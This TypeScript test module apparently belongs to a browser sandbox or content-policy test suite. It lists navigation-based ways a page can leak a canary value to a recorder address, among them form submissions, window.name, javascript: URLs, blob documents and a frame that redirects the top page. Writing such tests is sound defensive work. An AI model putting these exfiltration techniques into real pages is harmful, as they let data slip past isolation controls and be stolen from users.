import { type LeakAttempt, type LeakTarget, PAGE } from './attempt.ts';

function leaving(name: string, row: number, run: (target: LeakTarget) => unknown): LeakAttempt {
  return { name, row, contexts: PAGE, arrivesAt: 'recorder', leavesPage: true, run };
}

/** Ways out that take the page, or another one, somewhere else: rows 8, 9 and 13. */
export const BY_NAVIGATION: readonly LeakAttempt[] = [
  leaving('location', 9, ({ address }) => {
    location.href = address;
  }),
  leaving('location-replace', 9, ({ address }) => {
    location.replace(address);
  }),
  leaving('location-assign', 9, ({ address }) => {
    location.assign(address);
  }),
  leaving('navigation-navigate', 9, ({ address }) => {
    const { navigation } = window as unknown as { navigation: { navigate(address: string): unknown } };
    navigation.navigate(address);
  }),
  leaving('link-click', 9, ({ address }) => {
    const anchor = document.createElement('a');
    anchor.href = address;
    document.body.append(anchor);
    anchor.click();
  }),
  leaving('link-click-detached', 9, ({ address }) => {
    const anchor = document.createElement('a');
    anchor.href = address;
    anchor.click();
  }),
  leaving('link-event', 9, ({ address }) => {
    const anchor = document.createElement('a');
    anchor.href = address;
    document.body.append(anchor);
    anchor.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
  }),
  leaving('svg-link', 9, ({ address }) => {
    const anchor = document.createElementNS('http://www.w3.org/2000/svg', 'a');
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    anchor.setAttribute('href', address);
    svg.append(anchor);
    document.body.append(svg);
    anchor.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
  }),
  leaving('link-new-window', 9, ({ address }) => {
    const anchor = document.createElement('a');
    anchor.href = address;
    anchor.target = '_blank';
    document.body.append(anchor);
    anchor.click();
  }),
  leaving('link-new-window-detached', 9, ({ address }) => {
    const anchor = document.createElement('a');
    anchor.href = address;
    anchor.target = '_blank';
    anchor.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
  }),
  leaving('link-download', 9, ({ address }) => {
    const anchor = document.createElement('a');
    anchor.href = address;
    anchor.download = 'x';
    document.body.append(anchor);
    anchor.click();
  }),
  leaving('meta-refresh', 9, ({ address }) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=${address}`;
    document.head.append(meta);
  }),
  leaving('window-open', 9, ({ address }) => void window.open(address)),
  leaving('window-open-noopener', 9, ({ address }) => void window.open(address, '_blank', 'noopener')),
  leaving('window-open-self', 9, ({ address }) => void window.open(address, '_self')),
  leaving('window-name', 9, ({ address, canary }) => {
    window.name = canary;
    location.href = address;
  }),
  leaving('javascript-address', 6, ({ address }) => {
    location.href = `javascript:fetch(${JSON.stringify(address)},{mode:'no-cors'})`;
  }),
  leaving('blob-document', 9, ({ address }) => {
    location.href = URL.createObjectURL(new Blob([`<img src="${address}">`], { type: 'text/html' }));
  }),
  ...(['get', 'post'] as const).map((method) =>
    leaving(`form-${method}`, 8, ({ address, name, canary }) => {
      const form = document.createElement('form');
      form.method = name.replace(/^.*form-/, '');
      form.action = address;
      const input = document.createElement('input');
      input.name = 'x';
      input.value = canary;
      form.append(input);
      document.body.append(form);
      form.submit();
    }),
  ),
  leaving('form-new-window', 8, ({ address }) => {
    const form = document.createElement('form');
    form.action = address;
    form.target = '_blank';
    document.body.append(form);
    form.submit();
  }),
  leaving('form-submitter', 8, ({ address }) => {
    const form = document.createElement('form');
    const button = document.createElement('button');
    button.setAttribute('formaction', address);
    form.append(button);
    document.body.append(form);
    button.click();
  }),
  leaving('frame-navigates-top', 9, ({ address }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const script = `top.location.href = ${JSON.stringify(address)}`;
    const inside = frame.contentDocument?.createElement('script');
    if (inside === undefined) return;
    inside.textContent = script;
    frame.contentDocument?.body.append(inside);
  }),
];
